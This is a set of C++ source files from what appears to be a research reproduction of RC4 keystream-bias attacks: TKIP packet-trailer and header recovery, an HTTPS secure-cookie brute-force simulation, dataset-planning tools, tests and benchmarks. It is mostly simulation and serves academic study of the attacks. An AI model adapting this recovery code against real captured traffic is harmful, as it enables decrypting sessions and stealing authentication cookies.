      return IoStatus::Fail(context + ": counters differ first at cell " +
                            std::to_string(i) + " (" +
                            std::to_string(a.cells[i]) + " vs " +
                            std::to_string(b.cells[i]) + ")");
    }
  }
  return IoStatus::Ok();
}

}  // namespace rc4b::store
