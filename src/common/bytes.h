// Byte-buffer helpers shared by every module: hex (de)serialization, XOR, and
// little/big-endian integer packing used by the crypto and network substrates.
#ifndef SRC_COMMON_BYTES_H_
#define SRC_COMMON_BYTES_H_

#include <cstdint>
#include <cstring>
#include <span>
#include <string>
#include <string_view>
#include <vector>

namespace rc4b {

using Bytes = std::vector<uint8_t>;

// Encodes `data` as a lowercase hex string ("deadbeef").
std::string ToHex(std::span<const uint8_t> data);

// Decodes a hex string; both cases accepted. Aborts on malformed input
// (test/tooling helper, not an untrusted-input parser).
Bytes FromHex(std::string_view hex);

// Returns a byte vector holding the ASCII contents of `text`.
Bytes FromString(std::string_view text);

// XORs `a` and `b` element-wise. Requires equal sizes.
Bytes Xor(std::span<const uint8_t> a, std::span<const uint8_t> b);

// Little-endian packing -------------------------------------------------------

inline uint32_t LoadLe32(const uint8_t* p) {
  return static_cast<uint32_t>(p[0]) | static_cast<uint32_t>(p[1]) << 8 |
         static_cast<uint32_t>(p[2]) << 16 | static_cast<uint32_t>(p[3]) << 24;
}

inline void StoreLe32(uint32_t v, uint8_t* p) {
  p[0] = static_cast<uint8_t>(v);
  p[1] = static_cast<uint8_t>(v >> 8);
  p[2] = static_cast<uint8_t>(v >> 16);
  p[3] = static_cast<uint8_t>(v >> 24);
}

// Big-endian packing ----------------------------------------------------------

inline uint16_t LoadBe16(const uint8_t* p) {
  return static_cast<uint16_t>(static_cast<uint16_t>(p[0]) << 8 | p[1]);
}

inline void StoreBe16(uint16_t v, uint8_t* p) {
  p[0] = static_cast<uint8_t>(v >> 8);
  p[1] = static_cast<uint8_t>(v);
}

inline uint32_t LoadBe32(const uint8_t* p) {
  return static_cast<uint32_t>(p[0]) << 24 | static_cast<uint32_t>(p[1]) << 16 |
         static_cast<uint32_t>(p[2]) << 8 | static_cast<uint32_t>(p[3]);
}

inline void StoreBe32(uint32_t v, uint8_t* p) {
  p[0] = static_cast<uint8_t>(v >> 24);
  p[1] = static_cast<uint8_t>(v >> 16);
  p[2] = static_cast<uint8_t>(v >> 8);
  p[3] = static_cast<uint8_t>(v);
}

inline void StoreBe64(uint64_t v, uint8_t* p) {
  StoreBe32(static_cast<uint32_t>(v >> 32), p);
  StoreBe32(static_cast<uint32_t>(v), p + 4);
}

inline uint32_t Rotl32(uint32_t x, int s) { return (x << s) | (x >> (32 - s)); }
inline uint32_t Rotr32(uint32_t x, int s) { return (x >> s) | (x << (32 - s)); }
inline uint64_t Rotl64(uint64_t x, int s) { return (x << s) | (x >> (64 - s)); }

}  // namespace rc4b

#endif  // SRC_COMMON_BYTES_H_
