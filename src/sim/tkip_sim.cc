#include "src/sim/tkip_sim.h"

#include <algorithm>
#include <cassert>
#include <cmath>

#include "src/core/rank.h"
#include "src/net/packet.h"
#include "src/recovery/likelihood_source.h"
#include "src/sim/runner.h"
#include "src/tkip/attack.h"

namespace rc4b::sim {

Bytes InjectedPacket() { return InjectedPacket(FromString("7bytes!")); }

Bytes InjectedPacket(std::span<const uint8_t> payload) {
  Ipv4Header ip;
  ip.source = 0xc0a80164;
  ip.destination = 0x5db8d822;
  ip.ttl = 64;
  TcpHeader tcp;
  tcp.source_port = 80;
  tcp.destination_port = 52341;
  return BuildTcpPacket(LlcSnapHeader{}, ip, tcp, payload);
}

TkipPeer RandomPeer(Xoshiro256& rng) {
  TkipPeer peer;
  rng.Fill(peer.tk);
  peer.mic_key =
      MichaelKey{static_cast<uint32_t>(rng()), static_cast<uint32_t>(rng())};
  rng.Fill(peer.ta);
  rng.Fill(peer.da);
  rng.Fill(peer.sa);
  return peer;
}

TrailerFrameSource::TrailerFrameSource(const TkipTscModel& model, bool oracle,
                                       const TkipPeer& peer, const Bytes& msdu,
                                       const Bytes& trailer,
                                       uint64_t initial_tsc, uint64_t seed) {
  if (oracle) {
    Bytes plaintext = msdu;
    plaintext.insert(plaintext.end(), trailer.begin(), trailer.end());
    model_source_.emplace(model, std::move(plaintext), initial_tsc, seed);
  } else {
    real_source_.emplace(peer, msdu, initial_tsc);
  }
}

TkipFrame TrailerFrameSource::NextFrame() {
  return model_source_ ? model_source_->NextFrame()
                       : real_source_->NextFrame();
}

std::vector<TkipSimPoint> RunTkipTrial(const TkipTscModel& model,
                                       const TkipSimOptions& options,
                                       Xoshiro256& rng) {
  const TkipPeer peer = RandomPeer(rng);
  const Bytes msdu = options.payload.empty() ? InjectedPacket()
                                             : InjectedPacket(options.payload);
  const Bytes trailer = TkipTrailer(peer, msdu);
  const size_t first = msdu.size() + 1;
  const size_t last = msdu.size() + kTkipTrailerSize;

  TkipCaptureStats stats(first, last);
  // Randomize the TSC starting point across trials.
  const uint64_t initial_tsc = rng() & 0xffffffff;
  TrailerFrameSource source(model, options.oracle_model, peer, msdu, trailer,
                            initial_tsc, rng());
  recovery::TkipTscLikelihoodSource likelihoods(stats, model);

  std::vector<TkipSimPoint> points;
  uint64_t sent = 0;
  for (uint64_t checkpoint : options.checkpoints) {
    while (sent < checkpoint) {
      const bool accepted = stats.AddFrame(source.NextFrame());
      assert(accepted);  // both sources emit full-length ciphertexts
      (void)accepted;
      ++sent;
    }
    const auto tables = likelihoods.Tables();
    const auto bracket = IndependentRank(tables, trailer);

    TkipSimPoint point;
    point.packets = checkpoint;
    point.truth_rank = bracket.estimate();
    // CRC-32 false positives: candidates ahead of the truth pass the ICV
    // check with probability 2^-32 each. Model the first false hit as a
    // geometric draw (paper Sect. 5.4 observed exactly this failure mode).
    const double u = rng.UnitDouble();
    const double false_hit = -std::log(std::max(u, 1e-300)) * 4294967296.0;
    point.first_icv_position = std::min(point.truth_rank, false_hit);
    point.success_with_budget =
        point.truth_rank <= false_hit &&
        point.truth_rank < static_cast<double>(options.candidate_budget);
    point.success_with_two = point.truth_rank < 2.0;
    points.push_back(point);
  }
  return points;
}

TkipSimAggregate RunTkipSimulations(const TkipTscModel& model,
                                    const TkipSimOptions& options) {
  const auto per_trial = RunTrials<std::vector<TkipSimPoint>>(
      TrialRunnerOptions{options.trials, options.workers, options.seed},
      [&](uint64_t, Xoshiro256& rng) {
        return RunTkipTrial(model, options, rng);
      });

  TkipSimAggregate aggregate;
  aggregate.checkpoints = options.checkpoints;
  aggregate.trials = options.trials;
  const size_t n = options.checkpoints.size();
  aggregate.budget_wins.assign(n, 0);
  aggregate.two_wins.assign(n, 0);
  aggregate.icv_positions.assign(n, {});
  // Fold in trial order: the aggregate is a pure function of (seed, trials),
  // independent of how trials were sharded.
  for (const auto& points : per_trial) {
    for (size_t c = 0; c < points.size(); ++c) {
      aggregate.budget_wins[c] += points[c].success_with_budget ? 1 : 0;
      aggregate.two_wins[c] += points[c].success_with_two ? 1 : 0;
      aggregate.icv_positions[c].push_back(points[c].first_icv_position);
    }
  }
  return aggregate;
}

}  // namespace rc4b::sim
