// Plans a distributed grid-generation run (docs/store.md): describes one
// logical dataset, splits its key range into N shards and writes the shard
// manifest that grid_gen / grid_merge consume. Example:
//
//   tools/grid_plan --kind consecutive --keys 0x100000 --rows 256
//       --shards 4 --out /data/consec.manifest
//   for i in 0 1 2 3; do tools/grid_gen --manifest ... --shard $i & done; wait
//   tools/grid_merge --manifest /data/consec.manifest --out /data/consec.grid
#include <cstdio>
#include <string>

#include "src/common/flags.h"
#include "src/common/retry.h"
#include "src/store/manifest.h"

namespace rc4b {
namespace {

// "a:b,c:d" -> [(a, b), (c, d)]; the manifest's pairs syntax.
bool ParsePairList(const std::string& text,
                   std::vector<std::pair<uint32_t, uint32_t>>* out) {
  out->clear();
  size_t pos = 0;
  while (pos < text.size()) {
    size_t comma = text.find(',', pos);
    if (comma == std::string::npos) {
      comma = text.size();
    }
    const std::string item = text.substr(pos, comma - pos);
    const size_t colon = item.find(':');
    if (colon == std::string::npos || colon == 0 || colon + 1 >= item.size()) {
      return false;
    }
    out->emplace_back(
        static_cast<uint32_t>(std::stoul(item.substr(0, colon), nullptr, 0)),
        static_cast<uint32_t>(std::stoul(item.substr(colon + 1), nullptr, 0)));
    pos = comma + 1;
  }
  return !out->empty();
}

int Run(int argc, char** argv) {
  FlagSet flags(
      "Plans a sharded grid generation: writes the manifest that grid_gen "
      "workers and grid_merge consume (docs/store.md). Exit codes "
      "(docs/orchestrate.md): 0 ok; 75 retryable (transient I/O) — rerun "
      "the same command; 1 fatal (bad arguments, corrupt manifest) — "
      "retrying cannot help.");
  flags.Define("kind", "singlebyte",
               "dataset family: singlebyte | consecutive | pair | "
               "longterm-digraph")
      .Define("keys", "0x100000", "total RC4 keys across all shards")
      .Define("seed", "1", "AES-CTR key-generator seed")
      .Define("first-key", "0", "global index of the first key")
      .Define("rows", "256", "keystream positions (ignored for pair/longterm)")
      .Define("pairs", "", "kind pair only: position pairs \"a:b,c:d,...\"")
      .Define("drop", "1024", "longterm only: initial bytes dropped per key")
      .Define("bytes-per-key", "0x1000000", "longterm only: bytes kept per key")
      .Define("shards", "4", "number of independent shards")
      .Define("out", "grid.manifest", "manifest output path")
      .Define("extend", "false",
              "grow an existing manifest instead of planning a new one: "
              "append --shards new shards covering --keys additional keys "
              "to the manifest at --out (finished shard files and previous "
              "merges stay valid; see grid_merge --incremental-from)")
      .Define("prefix", "",
              "shard file prefix (default: --out minus its extension)");
  if (!flags.Parse(argc, argv)) {
    return 0;
  }

  if (flags.GetBool("extend")) {
    const std::string out = flags.GetString("out");
    std::string prefix = flags.GetString("prefix");
    if (prefix.empty()) {
      const size_t dot = out.rfind('.');
      const size_t slash = out.rfind('/');
      prefix = (dot != std::string::npos &&
                (slash == std::string::npos || dot > slash))
                   ? out.substr(0, dot)
                   : out;
    }
    store::Manifest manifest;
    if (IoStatus status = store::ReadManifest(out, &manifest); !status.ok()) {
      std::fprintf(stderr, "grid_plan: %s\n", status.message().c_str());
      return ExitCodeForStatus(status);
    }
    const uint64_t new_end = manifest.grid.key_end + flags.GetUint("keys");
    if (IoStatus status = store::ExtendManifestPlan(
            &manifest, new_end,
            static_cast<uint32_t>(flags.GetUint("shards")), prefix);
        !status.ok()) {
      std::fprintf(stderr, "grid_plan: %s\n", status.message().c_str());
      return ExitCodeForStatus(status);
    }
    if (IoStatus status = store::WriteManifest(out, manifest); !status.ok()) {
      std::fprintf(stderr, "grid_plan: %s\n", status.message().c_str());
      return ExitCodeForStatus(status);
    }
    std::printf("extended %s: key range now [%llu, %llu), %zu shards\n",
                out.c_str(),
                static_cast<unsigned long long>(manifest.grid.key_begin),
                static_cast<unsigned long long>(manifest.grid.key_end),
                manifest.shards.size());
    return kExitOk;
  }

  store::GridMeta grid;
  const std::string kind = flags.GetString("kind");
  if (!store::ParseGridKind(kind, &grid.kind)) {
    std::fprintf(stderr, "unknown --kind %s\n", kind.c_str());
    return kExitFatal;
  }
  grid.seed = flags.GetUint("seed");
  grid.key_begin = flags.GetUint("first-key");
  grid.key_end = grid.key_begin + flags.GetUint("keys");
  switch (grid.kind) {
    case store::GridKind::kSingleByte:
    case store::GridKind::kConsecutive:
      grid.rows = flags.GetUint("rows");
      break;
    case store::GridKind::kPair:
      if (!ParsePairList(flags.GetString("pairs"), &grid.pairs)) {
        std::fprintf(stderr, "kind pair requires --pairs \"a:b,c:d,...\"\n");
        return kExitFatal;
      }
      grid.rows = grid.pairs.size();
      break;
    case store::GridKind::kLongTermDigraph:
      grid.rows = 256;
      grid.drop = flags.GetUint("drop");
      grid.bytes_per_key = flags.GetUint("bytes-per-key");
      break;
  }

  const std::string out = flags.GetString("out");
  std::string prefix = flags.GetString("prefix");
  if (prefix.empty()) {
    const size_t dot = out.rfind('.');
    const size_t slash = out.rfind('/');
    prefix = (dot != std::string::npos &&
              (slash == std::string::npos || dot > slash))
                 ? out.substr(0, dot)
                 : out;
  }

  const store::Manifest manifest = store::PlanShards(
      grid, static_cast<uint32_t>(flags.GetUint("shards")), prefix);
  if (IoStatus status = store::WriteManifest(out, manifest); !status.ok()) {
    std::fprintf(stderr, "grid_plan: %s\n", status.message().c_str());
    return ExitCodeForStatus(status);
  }

  std::printf("wrote %s: %s grid, %llu keys [%llu, %llu), %zu shards\n",
              out.c_str(), store::GridKindName(grid.kind),
              static_cast<unsigned long long>(grid.keys()),
              static_cast<unsigned long long>(grid.key_begin),
              static_cast<unsigned long long>(grid.key_end),
              manifest.shards.size());
  for (size_t i = 0; i < manifest.shards.size(); ++i) {
    const store::ShardEntry& shard = manifest.shards[i];
    std::printf("  shard %zu: keys [%llu, %llu) -> %s\n", i,
                static_cast<unsigned long long>(shard.key_begin),
                static_cast<unsigned long long>(shard.key_end),
                shard.path.c_str());
  }
  return kExitOk;
}

}  // namespace
}  // namespace rc4b

int main(int argc, char** argv) { return rc4b::Run(argc, argv); }
