#include "src/common/io.h"

#include <cstdio>
#include <string>

#include <gtest/gtest.h>

#include "src/tkip/tsc_model.h"

namespace rc4b {
namespace {

std::string TempPath(const char* name) {
  return std::string(::testing::TempDir()) + "/" + name;
}

TEST(BinaryIoTest, U64RoundTrip) {
  const std::string path = TempPath("u64s.bin");
  {
    BinaryWriter writer(path);
    ASSERT_TRUE(writer.ok());
    writer.WriteU64(0);
    writer.WriteU64(0xdeadbeefcafef00dULL);
  }
  BinaryReader reader(path);
  ASSERT_TRUE(reader.ok());
  EXPECT_EQ(reader.ReadU64(), 0u);
  EXPECT_EQ(reader.ReadU64(), 0xdeadbeefcafef00dULL);
  EXPECT_TRUE(reader.ok());
  std::remove(path.c_str());
}

TEST(BinaryIoTest, ArrayRoundTrip) {
  const std::string path = TempPath("arrays.bin");
  const std::vector<double> doubles = {1.5, -2.25, 0.0, 1e300};
  const std::vector<uint64_t> ints = {1, 2, 3};
  {
    BinaryWriter writer(path);
    writer.WriteDoubles(doubles);
    writer.WriteU64s(ints);
  }
  BinaryReader reader(path);
  std::vector<double> doubles_back(4);
  std::vector<uint64_t> ints_back(3);
  ASSERT_TRUE(reader.ReadDoubles(doubles_back));
  ASSERT_TRUE(reader.ReadU64s(ints_back));
  EXPECT_EQ(doubles_back, doubles);
  EXPECT_EQ(ints_back, ints);
  std::remove(path.c_str());
}

TEST(BinaryIoTest, ShortReadFails) {
  const std::string path = TempPath("short.bin");
  {
    BinaryWriter writer(path);
    writer.WriteU64(42);
  }
  BinaryReader reader(path);
  reader.ReadU64();
  reader.ReadU64();  // past end
  EXPECT_FALSE(reader.ok());
  std::remove(path.c_str());
}

TEST(BinaryIoTest, MissingFileNotOk) {
  BinaryReader reader("/nonexistent/path/file.bin");
  EXPECT_FALSE(reader.ok());
}

TEST(TscModelIoTest, SaveLoadRoundTrip) {
  const std::string path = TempPath("model.bin");
  TkipTscModel model(3, 5);
  model.Generate(1 << 8, 7, 8);

  ASSERT_TRUE(model.Save(path));
  TkipTscModel loaded(3, 5);
  ASSERT_TRUE(loaded.Load(path));
  EXPECT_EQ(loaded.keys_per_class(), model.keys_per_class());
  for (int tsc1 = 0; tsc1 < 256; tsc1 += 17) {
    for (size_t pos = 3; pos <= 5; ++pos) {
      for (int v = 0; v < 256; v += 31) {
        ASSERT_DOUBLE_EQ(
            loaded.LogProb(static_cast<uint8_t>(tsc1), pos, static_cast<uint8_t>(v)),
            model.LogProb(static_cast<uint8_t>(tsc1), pos, static_cast<uint8_t>(v)));
      }
    }
  }
  std::remove(path.c_str());
}

TEST(TscModelIoTest, LoadRejectsRangeMismatch) {
  const std::string path = TempPath("model2.bin");
  TkipTscModel model(3, 5);
  model.Generate(1 << 6, 9, 8);
  ASSERT_TRUE(model.Save(path));

  TkipTscModel wrong_range(3, 6);
  EXPECT_FALSE(wrong_range.Load(path));
  std::remove(path.c_str());
}

TEST(TscModelIoTest, LoadRejectsGarbage) {
  const std::string path = TempPath("garbage.bin");
  {
    BinaryWriter writer(path);
    writer.WriteU64(12345);  // wrong magic
  }
  TkipTscModel model(1, 1);
  EXPECT_FALSE(model.Load(path));
  std::remove(path.c_str());
}

}  // namespace
}  // namespace rc4b
