#include "src/tkip/header_recovery.h"

#include <cassert>

namespace rc4b {

std::vector<size_t> UnknownHeaderLayout::Positions() {
  std::vector<size_t> positions;
  positions.push_back(kTtl);
  positions.push_back(kIpChecksum);
  positions.push_back(kIpChecksum + 1);
  for (size_t i = 0; i < 4; ++i) {
    positions.push_back(kClientAddress + i);
  }
  positions.push_back(kClientPort);
  positions.push_back(kClientPort + 1);
  positions.push_back(kTcpChecksum);
  positions.push_back(kTcpChecksum + 1);
  return positions;
}

bool HeaderChecksumsValid(const Bytes& msdu) {
  if (msdu.size() < 48) {
    return false;
  }
  const std::span<const uint8_t> ip(msdu.data() + 8, 20);
  const std::span<const uint8_t> tcp_segment(msdu.data() + 28, msdu.size() - 28);
  return VerifyIpv4Checksum(ip) && VerifyTcpChecksum(ip, tcp_segment);
}

HeaderRecoveryResult RecoverHeaderFields(const Bytes& template_msdu,
                                         const SingleByteTables& likelihoods,
                                         uint64_t max_candidates) {
  const auto positions = UnknownHeaderLayout::Positions();
  assert(likelihoods.size() == positions.size());
  assert(template_msdu.size() >= 48);

  HeaderRecoveryResult result;
  Bytes msdu = template_msdu;
  LazyCandidateEnumerator enumerator(likelihoods);
  for (uint64_t n = 0; n < max_candidates; ++n) {
    const Candidate candidate = enumerator.Next();
    for (size_t i = 0; i < positions.size(); ++i) {
      msdu[positions[i]] = candidate.plaintext[i];
    }
    if (!HeaderChecksumsValid(msdu)) {
      continue;
    }
    result.found = true;
    result.candidates_tried = n + 1;
    result.ttl = msdu[UnknownHeaderLayout::kTtl];
    result.client_address = LoadBe32(msdu.data() + UnknownHeaderLayout::kClientAddress);
    result.client_port = LoadBe16(msdu.data() + UnknownHeaderLayout::kClientPort);
    result.msdu = msdu;
    return result;
  }
  return result;
}

}  // namespace rc4b
