// Fig. 10 — success rate of brute-forcing a 16-character secure cookie with
// ~2^23 candidate attempts, and with only the most likely candidate, vs the
// number of captured request ciphertexts (x-axis in units of 2^27).
//
// The simulation lives in src/sim/cookie_sim.h: likelihoods combine the
// Fluhrer-McGrew double-byte estimate at each of the 17 adjacent pairs
// spanning m1 || cookie || mL with the multi-gap ABSAB differential
// estimates against the injected known plaintext (Sect. 6); ciphertext
// statistics are sampled from their exact Poissonized law; the
// "rank <= 2^23" criterion is evaluated with the Markov rank DP instead of
// materializing the Algorithm 2 list. Trials are sharded on the src/sim/
// runner, so every printed row is bit-exact for any --workers value.
#include <cmath>
#include <cstdio>

#include "bench/harness.h"
#include "src/common/flags.h"
#include "src/sim/cookie_sim.h"

namespace rc4b {
namespace {

int Run(int argc, char** argv) {
  const ScaleFlagSpec scale{.count_flag = "sims",
                            .count_default = "48",
                            .count_help = "simulations per point (paper: 256)",
                            .seed_default = "15"};
  FlagSet flags("Fig. 10: cookie brute-force success vs ciphertexts x 2^27");
  DefineScaleFlags(flags, scale)
      .Define("max-copies", "15", "largest checkpoint in units of 2^27")
      .Define("step", "2", "checkpoint step in units of 2^27")
      .Define("attempts-log2", "23", "log2 of the brute-force budget")
      .Define("alignment", "48", "cookie keystream position mod 256")
      .Define("max-gap", "128", "largest ABSAB gap used");
  if (!flags.Parse(argc, argv)) {
    return 0;
  }
  const ScaleFlagValues scale_values = GetScaleFlags(flags, scale);

  bench::PrintHeader(
      "bench_fig10_cookie_bruteforce",
      "Fig. 10 (16-char cookie recovery, 2^23 attempts vs 1 attempt)",
      "expected shape: with 2^23 attempts success passes ~90% around 9 x 2^27 "
      "ciphertexts; the 1-candidate curve lags far behind");

  sim::CookieSimOptions options;
  options.alignment = flags.GetUint("alignment");
  options.max_gap = flags.GetUint("max-gap");
  options.attempt_budget =
      std::exp2(static_cast<double>(flags.GetInt("attempts-log2")));
  options.trials = scale_values.count;
  options.workers = scale_values.workers;
  options.seed = scale_values.seed;
  const sim::CookieSimContext context(options);

  std::printf("%-16s %16s %16s\n", "copies (x2^27)", "2^23 attempts",
              "1 attempt");
  for (uint64_t copies = 1; copies <= flags.GetUint("max-copies");
       copies += flags.GetUint("step")) {
    const uint64_t ciphertexts = copies << 27;
    const auto aggregate = sim::RunCookieSimulations(context, ciphertexts);
    std::printf("%-16llu %15.1f%% %15.1f%%\n",
                static_cast<unsigned long long>(copies),
                100.0 * static_cast<double>(aggregate.budget_wins) /
                    static_cast<double>(aggregate.trials),
                100.0 * static_cast<double>(aggregate.best_wins) /
                    static_cast<double>(aggregate.trials));
  }
  return 0;
}

}  // namespace
}  // namespace rc4b

int main(int argc, char** argv) { return rc4b::Run(argc, argv); }
