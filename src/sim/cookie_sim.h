// Trial-parallel Monte-Carlo simulation of the HTTPS secure-cookie
// brute-force attack (Sect. 6, Fig. 10): per-trial random cookies, ciphertext
// statistics sampled from their exact Poissonized law at paper-scale request
// counts, combined Fluhrer-McGrew + multi-gap ABSAB transition tables, and
// the Markov rank DP standing in for the Algorithm 2 candidate list.
//
// Promoted to library code from the former bench-local implementation so the
// Fig. 10 bench, the https_cookie example, and the tests all drive one
// pipeline. Trials run on src/sim/runner.h under its determinism contract:
// aggregates are bit-exact for any worker count (docs/sim.md).
#ifndef SRC_SIM_COOKIE_SIM_H_
#define SRC_SIM_COOKIE_SIM_H_

#include <cstdint>
#include <span>
#include <vector>

#include "src/biases/fluhrer_mcgrew.h"
#include "src/common/rng.h"
#include "src/core/candidates.h"
#include "src/recovery/likelihood_source.h"

namespace rc4b::sim {

struct CookieSimOptions {
  size_t cookie_length = 16;
  // Character set the cookie is drawn from and the candidate search is
  // restricted to (Sect. 6.2). Empty selects CookieAlphabet64().
  std::vector<uint8_t> alphabet;
  // 0-based keystream offset of the first cookie byte, modulo 256; pair t's
  // first byte sits at 1-based PRGA position alignment + t.
  size_t alignment = 48;
  uint64_t max_gap = 128;   // largest ABSAB gap used (paper: 128)
  uint64_t fm_r = 1 << 20;  // FM byte-position regime (large = long-term)
  uint8_t m1 = '=';         // known byte before the cookie value
  uint8_t m_last = ';';     // known byte after (injected cookie separator)
  // Brute-force budget: success means rank < attempt_budget (paper: 2^23).
  double attempt_budget = 8388608.0;
  uint64_t trials = 48;  // simulated attacks (the paper runs 256)
  unsigned workers = 0;  // 0 = hardware concurrency
  uint64_t seed = 1;
};

// ABSAB gap set usable against pair t of m1 || cookie || mL: known pairs
// after the cookie need gap >= cookie_length - 1 - t; known pairs before need
// gap >= t + 1; both capped at max_gap (Sect. 6.2's layout).
std::vector<double> AbsabAlphasForPair(size_t pair_index, size_t cookie_length,
                                       uint64_t max_gap);

// Per-pair models precomputed once and shared (read-only) by every trial:
// the FM digraph table / sparse model at each pair's PRGA counter and the
// usable ABSAB alpha sets.
class CookieSimContext {
 public:
  explicit CookieSimContext(const CookieSimOptions& options);

  const CookieSimOptions& options() const { return options_; }
  size_t pair_count() const { return options_.cookie_length + 1; }
  const std::vector<uint8_t>& alphabet() const { return alphabet_; }

  const SparseDigraphModel& fm_model(size_t pair_index) const {
    return fm_models_[pair_index];
  }
  const std::vector<double>& fm_table(size_t pair_index) const {
    return fm_tables_[pair_index];
  }
  const std::vector<double>& alphas(size_t pair_index) const {
    return alphas_[pair_index];
  }

 private:
  CookieSimOptions options_;
  std::vector<uint8_t> alphabet_;
  std::vector<SparseDigraphModel> fm_models_;
  std::vector<std::vector<double>> fm_tables_;
  std::vector<std::vector<double>> alphas_;
};

// Builds the cookie_length + 1 combined FM + ABSAB transition tables for the
// true cookie `cookie` after `ciphertexts` captured requests, sampling the
// ciphertext statistics from their exact Poissonized law. This is the shared
// synthetic-capture path of the Fig. 10 bench and the https_cookie example.
DoubleByteTables SampleCookieTransitions(const CookieSimContext& context,
                                         std::span<const uint8_t> cookie,
                                         uint64_t ciphertexts, Xoshiro256& rng);

// LikelihoodSource adapter over the sampled-capture path: each Tables() call
// draws one fresh set of paper-scale combined FM + ABSAB transition tables
// for `cookie` from the attached generator. The context, cookie bytes and
// generator must outlive the source.
class SampledCookieLikelihoodSource
    : public recovery::DoubleByteLikelihoodSource {
 public:
  SampledCookieLikelihoodSource(const CookieSimContext& context,
                                std::span<const uint8_t> cookie,
                                uint64_t ciphertexts, Xoshiro256& rng)
      : context_(&context), cookie_(cookie), ciphertexts_(ciphertexts),
        rng_(&rng) {}

  size_t inner_length() const override { return cookie_.size(); }
  DoubleByteTables Tables() override {
    return SampleCookieTransitions(*context_, cookie_, ciphertexts_, *rng_);
  }

 private:
  const CookieSimContext* context_;
  std::span<const uint8_t> cookie_;
  uint64_t ciphertexts_;
  Xoshiro256* rng_;
};

struct CookieSimResult {
  double truth_rank = 0.0;          // Markov rank DP estimate of the truth
  bool rank_within_budget = false;  // rank < attempt_budget
  bool best_is_truth = false;       // Viterbi best candidate == truth
};

// Runs one simulated attack at `ciphertexts` captured requests with the
// given per-trial generator: draw a random cookie from the alphabet, sample
// its transition tables, and evaluate both success criteria.
CookieSimResult RunCookieTrial(const CookieSimContext& context,
                               uint64_t ciphertexts, Xoshiro256& rng);

struct CookieSimAggregate {
  uint64_t trials = 0;
  uint64_t budget_wins = 0;  // rank_within_budget count
  uint64_t best_wins = 0;    // best_is_truth count
  // [trial] truth_rank, in trial order (the recovery layer's rank metric).
  std::vector<double> ranks;

  // Field-wise equality for the worker-count bit-exactness checks.
  bool operator==(const CookieSimAggregate&) const = default;
};

// Runs options.trials simulated attacks at `ciphertexts` captured requests
// across the thread pool. The per-trial seed stream derives from
// TrialSeed(options.seed, ciphertexts), so every checkpoint of a Fig. 10
// sweep draws independent randomness while staying bit-exact for any
// options.workers.
CookieSimAggregate RunCookieSimulations(const CookieSimContext& context,
                                        uint64_t ciphertexts);

}  // namespace rc4b::sim

#endif  // SRC_SIM_COOKIE_SIM_H_
