// Substrate micro-throughput (google-benchmark): the building blocks whose
// speed determined the paper's practical rates (Sect. 5.4: ~2500 injected
// packets/s; Sect. 6.3: ~4450 HTTPS requests/s, 20000 cookie tests/s).
// Alongside the console table the binary writes BENCH_throughput.json
// (bench/harness.h) so the nightly perf job tracks every micro-number.
#include <benchmark/benchmark.h>

#include "bench/harness.h"
#include "src/biases/fluhrer_mcgrew.h"
#include "src/common/rng.h"
#include "src/core/candidates.h"
#include "src/core/likelihood.h"
#include "src/engine/accumulators.h"
#include "src/engine/keystream_engine.h"
#include "src/crypto/aes128.h"
#include "src/crypto/crc32.h"
#include "src/crypto/hmac.h"
#include "src/crypto/michael.h"
#include "src/crypto/sha1.h"
#include "src/rc4/kernel.h"
#include "src/rc4/kernel_registry.h"
#include "src/rc4/rc4.h"
#include "src/rc4/rc4_multi.h"
#include "src/tkip/frame.h"
#include "src/tkip/key_mixing.h"
#include "src/tls/record.h"

namespace rc4b {
namespace {

Bytes RandomBytes(size_t n, uint64_t seed) {
  Xoshiro256 rng(seed);
  Bytes out(n);
  rng.Fill(out);
  return out;
}

void BM_Rc4Ksa(benchmark::State& state) {
  const Bytes key = RandomBytes(16, 1);
  for (auto _ : state) {
    Rc4 rc4(key);
    benchmark::DoNotOptimize(rc4);
  }
}
BENCHMARK(BM_Rc4Ksa);

void BM_Rc4Keystream(benchmark::State& state) {
  const Bytes key = RandomBytes(16, 2);
  Rc4 rc4(key);
  Bytes buffer(state.range(0));
  for (auto _ : state) {
    rc4.Keystream(buffer);
    benchmark::DoNotOptimize(buffer.data());
  }
  state.SetBytesProcessed(state.iterations() * state.range(0));
}
BENCHMARK(BM_Rc4Keystream)->Arg(256)->Arg(4096);

// Interleaved kernel KSA: M lockstep key schedules per iteration. The
// per-key rate versus BM_Rc4Ksa is the KSA half of the engine's short-term
// speedup (256 swaps per key dominate 16-byte first16-style datasets).
template <size_t M>
void BM_Rc4MultiKsa(benchmark::State& state) {
  const Bytes keys = RandomBytes(M * 16, 21);
  for (auto _ : state) {
    Rc4MultiStream<M> streams(keys, 16);
    benchmark::DoNotOptimize(streams);
  }
  state.SetItemsProcessed(state.iterations() * M);
}
BENCHMARK_TEMPLATE(BM_Rc4MultiKsa, 4);
BENCHMARK_TEMPLATE(BM_Rc4MultiKsa, 8);
BENCHMARK_TEMPLATE(BM_Rc4MultiKsa, 16);
BENCHMARK_TEMPLATE(BM_Rc4MultiKsa, 32);

// Interleaved kernel PRGA: bytes/sec across all M streams (row stride =
// keystream length, as in the engine's batch buffer). Compare against
// BM_Rc4Keystream at the same length for the per-core PRGA speedup; this is
// also the sweep that tunes kDefaultInterleave.
template <size_t M>
void BM_Rc4MultiKeystream(benchmark::State& state) {
  const Bytes keys = RandomBytes(M * 16, 22);
  Rc4MultiStream<M> streams(keys, 16);
  const size_t length = static_cast<size_t>(state.range(0));
  Bytes buffer(M * length);
  for (auto _ : state) {
    streams.Keystream(buffer.data(), length, length);
    benchmark::DoNotOptimize(buffer.data());
  }
  state.SetBytesProcessed(state.iterations() * static_cast<int64_t>(M * length));
}
BENCHMARK_TEMPLATE(BM_Rc4MultiKeystream, 4)->Arg(256);
BENCHMARK_TEMPLATE(BM_Rc4MultiKeystream, 8)->Arg(256)->Arg(4096);
BENCHMARK_TEMPLATE(BM_Rc4MultiKeystream, 16)->Arg(256);
BENCHMARK_TEMPLATE(BM_Rc4MultiKeystream, 32)->Arg(256);

// Registered lane kernels (scalar round-robin, ssse3/avx2/neon where the
// build + CPU allow), each at its preferred width — the heads-up comparison
// behind tools/autotune's verdict. Registered at runtime in main() because
// availability is a host property, not a compile-time one.
void BM_LaneKernelKsa(benchmark::State& state, const KernelDesc* desc) {
  const size_t width = desc->preferred_width;
  const auto kernel = desc->make(width);
  const Bytes keys = RandomBytes(width * 16, 23);
  for (auto _ : state) {
    kernel->Init(keys, 16);
    benchmark::DoNotOptimize(kernel.get());
  }
  state.SetItemsProcessed(state.iterations() * static_cast<int64_t>(width));
}

